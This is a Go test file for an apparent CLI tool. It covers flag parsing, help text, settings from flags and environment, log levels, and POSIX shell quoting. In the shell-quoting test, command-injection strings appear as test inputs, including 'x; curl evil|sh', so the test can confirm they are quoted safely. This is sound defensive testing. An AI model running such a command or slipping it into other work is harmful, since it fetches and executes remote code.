package main

import (
	"errors"
	"flag"
	"io"
	"log/slog"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/slogfeed/slogfeed/schedule/eval"
)

func TestParseInterspersed(t *testing.T) {
	tests := []struct {
		name       string
		args       []string
		positional []string
		json       bool
		svg        string
		runs       int
		err        string // substring of the error; "" for none
		errIs      error
	}{
		{name: "nothing", args: nil, positional: nil},
		{name: "only positional", args: []string{"a", "b"}, positional: []string{"a", "b"}},
		{name: "flag first", args: []string{"--json", "a"}, positional: []string{"a"}, json: true},
		{name: "interspersed", args: []string{"a", "--json", "b", "--svg", "d", "c", "-runs=4"}, positional: []string{"a", "b", "c"}, json: true, svg: "d", runs: 4},
		{name: "double dash", args: []string{"a", "--", "--json", "b"}, positional: []string{"a", "--json", "b"}},
		{name: "double dash first", args: []string{"--", "-x"}, positional: []string{"-x"}},
		{name: "double dash after double dash", args: []string{"--json", "--", "--"}, positional: []string{"--"}, json: true},
		{name: "double dash as value", args: []string{"--svg", "--", "a", "--json"}, positional: []string{"a"}, svg: "--", json: true},
		{name: "double dash as inline value", args: []string{"--svg=--", "--", "-x"}, positional: []string{"-x"}, svg: "--"},
		{name: "flag named like a value", args: []string{"--svg", "--svg", "--", "x", "--json"}, positional: []string{"x", "--json"}, svg: "--svg"},
		{name: "bool flag set false", args: []string{"a", "--json=false", "b"}, positional: []string{"a", "b"}},
		{name: "lone dash is positional", args: []string{"-", "--json"}, positional: []string{"-"}, json: true},
		{name: "unknown flag after positional", args: []string{"a", "--nope"}, err: "flag provided but not defined: -nope"},
		{name: "bad value", args: []string{"a", "--runs", "x"}, err: `invalid value "x" for flag -runs`},
		{name: "help after positional", args: []string{"a", "-h"}, errIs: flag.ErrHelp},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := flag.NewFlagSet("t", flag.ContinueOnError)
			fs.SetOutput(io.Discard)
			j := fs.Bool("json", false, "")
			svg := fs.String("svg", "", "")
			runs := fs.Int("runs", 0, "")
			got, err := parseInterspersed(fs, tt.args)
			switch {
			case tt.errIs != nil:
				if !errors.Is(err, tt.errIs) {
					t.Fatalf("err = %v, want %v", err, tt.errIs)
				}
				return
			case tt.err != "":
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("err = %v, want one containing %q", err, tt.err)
				}
				return
			case err != nil:
				t.Fatalf("unexpected error: %v", err)
			}
			if !slices.Equal(got, tt.positional) {
				t.Errorf("positional = %q, want %q", got, tt.positional)
			}
			if *j != tt.json || *svg != tt.svg || *runs != tt.runs {
				t.Errorf("json=%v svg=%q runs=%d, want json=%v svg=%q runs=%d", *j, *svg, *runs, tt.json, tt.svg, tt.runs)
			}
		})
	}
}

func TestWriteFlagHelp(t *testing.T) {
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	fs.Bool("json", false, "write JSON")
	fs.Uint64("seed", 1, "random seed `N`")
	bindSettings(fs, []setting{{Name: "level", Env: "X_LEVEL", Default: "info", Doc: "log `LEVEL`"}})
	var b strings.Builder
	writeFlagHelp(&b, fs, [2]string{"-h, --help", "show help"})
	want := "" +
		"  --json         write JSON\n" +
		"  --level LEVEL  log LEVEL (env X_LEVEL, default info)\n" +
		"  --seed N       random seed N, default 1\n" +
		"  -h, --help     show help\n"
	if b.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", b.String(), want)
	}
}

func TestQuoteArg(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", `"plain"`},
		{"\x1b[31m", `"\x1b[31m"`},
		{strings.Repeat("é", 40), `"` + strings.Repeat("é", 32) + `"…`},
		{strings.Repeat("a", 63) + "é", `"` + strings.Repeat("a", 63) + `"…`},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := quoteArg(tt.in); got != tt.want {
				t.Errorf("quoteArg(%q) = %s, want %s", tt.in, got, tt.want)
			}
		})
	}
}

func TestOneLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"one", "one"},
		{"a\nb", "a; b"},
		{"a\n\n  b\t c\n", "a; ; b c;"},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := oneLine(tt.in); got != tt.want {
				t.Errorf("oneLine(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestTakesFiles(t *testing.T) {
	tests := []struct {
		usage string
		want  bool
	}{
		{"trace FILE...: replay traces", true},
		{"replays the FILEs given", true},
		{"Figs 19–20: latency vs p_ss", false},
		{"uses the PROFILE setting", false},
		{"reads a file", false},
	}
	for _, tt := range tests {
		t.Run(tt.usage, func(t *testing.T) {
			if got := takesFiles(eval.Scenario{Usage: tt.usage}); got != tt.want {
				t.Errorf("takesFiles(%q) = %v, want %v", tt.usage, got, tt.want)
			}
		})
	}
}

func TestResolveSettings(t *testing.T) {
	settings := []setting{
		{Name: "level", Env: "T_LEVEL", Default: "info", Doc: "level", Check: func(s string) error { _, err := parseLevel(s); return err }},
		{Name: "addr", Env: "T_ADDR", Default: ":8080", Doc: "address"},
	}
	tests := []struct {
		name string
		args []string
		env  map[string]string
		want map[string]string
		err  string
	}{
		{name: "defaults", want: map[string]string{"level": "info", "addr": ":8080"}},
		{name: "env", env: map[string]string{"T_LEVEL": "debug", "T_ADDR": ":1"}, want: map[string]string{"level": "debug", "addr": ":1"}},
		{name: "empty env is unset", env: map[string]string{"T_LEVEL": ""}, want: map[string]string{"level": "info", "addr": ":8080"}},
		{name: "flag beats env", args: []string{"--level", "warn"}, env: map[string]string{"T_LEVEL": "debug"}, want: map[string]string{"level": "warn", "addr": ":8080"}},
		{name: "empty flag beats env", args: []string{"--addr="}, env: map[string]string{"T_ADDR": ":1"}, want: map[string]string{"level": "info", "addr": ""}},
		{name: "bad flag", args: []string{"--level", "x"}, err: `--level: unknown log level "x" (want debug, info, warn or error)`},
		{name: "bad env", env: map[string]string{"T_LEVEL": "x"}, err: `T_LEVEL: unknown log level "x"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := flag.NewFlagSet("t", flag.ContinueOnError)
			b := bindSettings(fs, settings)
			if err := fs.Parse(tt.args); err != nil {
				t.Fatal(err)
			}
			got, err := b.resolve(func(k string) string { return tt.env[k] })
			if tt.err != "" {
				var ue *usageError
				if !errors.As(err, &ue) || !strings.HasPrefix(err.Error(), tt.err) {
					t.Fatalf("err = %v, want a usage error starting %q", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != len(tt.want) {
				t.Errorf("got %v, want %v", got, tt.want)
			}
			for k, v := range tt.want {
				if got[k] != v {
					t.Errorf("%s = %q, want %q", k, got[k], v)
				}
			}
		})
	}
}

func TestParseLevel(t *testing.T) {
	tests := []struct {
		in   string
		want slog.Level
		ok   bool
	}{
		{"debug", slog.LevelDebug, true},
		{"INFO", slog.LevelInfo, true},
		{" warn ", slog.LevelWarn, true},
		{"warning", slog.LevelWarn, true},
		{"Error", slog.LevelError, true},
		{"info+2", 0, false},
		{"", 0, false},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := parseLevel(tt.in)
			if (err == nil) != tt.ok || got != tt.want {
				t.Errorf("parseLevel(%q) = %v, %v; want %v, ok=%v", tt.in, got, err, tt.want, tt.ok)
			}
		})
	}
}

func TestSettingChecks(t *testing.T) {
	tests := []struct {
		check func(string) error
		value string
		ok    bool
	}{
		{checkAddr, "127.0.0.1:8080", true},
		{checkAddr, ":0", true},
		{checkAddr, "127.0.0.1:", true},
		{checkAddr, "localhost:http", true},
		{checkAddr, "127.0.0.1:65535", true},
		{checkAddr, "127.0.0.1:65536", false},
		{checkAddr, "127.0.0.1:99999", false},
		{checkAddr, "127.0.0.1:no-such-service", false},
		{checkAddr, "127.0.0.1", false},
		{checkFloat, "0", true},
		{checkFloat, "2.5", true},
		{checkFloat, "-1", false},
		{checkFloat, "NaN", false},
		{checkFloat, "+Inf", false},
		{checkFloat, "x", false},
	}
	for _, tt := range tests {
		if err := tt.check(tt.value); (err == nil) != tt.ok {
			t.Errorf("%q: %v, want ok %v", tt.value, err, tt.ok)
		}
	}
}

func TestClockTime(t *testing.T) {
	now := time.Date(2026, 12, 7, 10, 0, 0, 0, time.UTC)
	tests := []struct {
		t    time.Time
		want string
	}{
		{now.Add(90 * time.Second), "10:01:30"},
		{now.Add(-11 * time.Hour), "23:00:00"},
		{now.Add(48*time.Hour + 8*time.Minute), "Dec 9 10:08"},
		{time.Date(2027, 1, 2, 3, 4, 0, 0, time.UTC), "2027-01-02 03:04"},
	}
	for _, tt := range tests {
		if got := clockTime(tt.t, now); got != tt.want {
			t.Errorf("%v: %q, want %q", tt.t, got, tt.want)
		}
	}
}

// TestShellArg: each argument, quoted, is read back by a POSIX shell as
// the one word it was, whole: nothing expanded, nothing cut.
func TestShellArg(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	tests := []struct{ in, want string }{
		{"mote", "mote"},
		{"fixed-15m", "fixed-15m"},
		{"cron:*/5 * * * *", `'cron:*/5 * * * *'`},
		{"", "''"},
		{"$(echo hi)", `'$(echo hi)'`},
		{"`id`", "'`id`'"},
		{"price $5", `'price $5'`},
		{"it's", `'it'\''s'`},
		{"~root", `'~root'`},
		{"=ls", `'=ls'`}, // zsh expands a word that begins with =
		{"x; curl evil|sh", `'x; curl evil|sh'`},
		{"a\nb", "'a\nb'"},
		{"a\\b\"c", `'a\b"c'`},
		{"température", `'température'`},
		{strings.Repeat("l", 300), strings.Repeat("l", 300)},
	}
	for _, tc := range tests {
		got := shellArg(tc.in)
		if got != tc.want {
			t.Errorf("shellArg(%q) = %s, want %s", tc.in, got, tc.want)
		}
		out, err := exec.Command(sh, "-c", `printf '%s|' `+got).Output()
		if err != nil {
			t.Fatalf("sh -c printf %s: %v", got, err)
		}
		if string(out) != tc.in+"|" {
			t.Errorf("sh read %s as %q, want %q", got, out, tc.in)
		}
	}
}

// The checks of serve's settings accept what they document and refuse
// the rest in words a user reads, not a parser's.
func TestServeSettingChecks(t *testing.T) {
	checks := map[string]func(string) error{}
	for _, s := range serveSettings(func(string) string { return "" }) {
		checks[s.Name] = s.Check
	}
	tests := []struct{ name, value, says string }{
		{"owned-copies", "262144", ""},
		{"owned-copies", "1", ""},
		{"owned-copies", "0", "want a whole number from 1 to 16777216"},
		{"owned-copies", "lots", "want a whole number from 1 to 16777216"},
		{"workers", "abc", "want a whole number from 1 to 1024"},
		{"pipe-time", "soon", "want a duration from 100ms to 10m"},
		{"keep-items", "-1", "want a whole number from 0 (keep every item)"},
		{"nats-embed", "yes", "want true or false"},
		{"shards", "x", "want a whole number from 1 to"},
		{"nats-replicas", "9", "want a whole number from 0 to 5"},
	}
	for _, tt := range tests {
		check := checks[tt.name]
		if check == nil {
			t.Fatalf("no check for --%s", tt.name)
		}
		err := check(tt.value)
		if tt.says == "" && err != nil || tt.says != "" && (err == nil || !strings.HasPrefix(err.Error(), tt.says)) {
			t.Errorf("--%s %q: %v, want %q", tt.name, tt.value, err, tt.says)
		}
	}
}
